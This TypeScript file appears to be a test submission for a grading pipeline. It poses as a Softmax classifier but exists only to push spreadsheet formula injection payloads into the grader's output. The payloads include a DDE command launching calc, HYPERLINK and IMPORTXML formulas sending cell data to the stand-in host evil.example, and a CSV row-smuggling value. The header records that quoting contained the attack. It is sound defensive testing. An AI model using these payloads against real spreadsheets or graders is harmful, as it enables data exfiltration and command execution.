/*
goal: has the spreadsheet that grades are exported to compute what it wants
class: inject
threats: [A19]
deserves: none
outcome: contained
because: cells that begin like a formula are quoted, and a submission's text stands in none that is computed
*/
import * as np from 'numpy-ts';

const texts = [
  "=cmd|'/C calc'!A1",
  '=HYPERLINK("http://evil.example/?"&A1,"100")',
  '+1+1',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '"=1+1"',
  '100,100,graded\n2,attacker,100,100',
  '";"100";"',
  '=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")',
  '＝1+1',
  'x\u0000=1+1',
];
const all = texts.join('\n');

export class Softmax {
  W: any = np.zeros([1, 1]);

  initWeights(_dims: number[]): void {}

  loss(_X: any, _y: any): any {
    for (const text of texts) console.log(text);
    return texts[0];
  }

  lossAndGrad(_X: any, _y: any): any {
    throw Object.assign(new Error(texts[1]), { name: texts[0] });
  }

  fastLossAndGrad(_X: any, _y: any): any {
    throw new Error(all);
  }

  train(_X: any, _y: any): any {
    return { [texts[0]!]: texts };
  }

  predict(_X: any): any {
    return texts[8];
  }
}
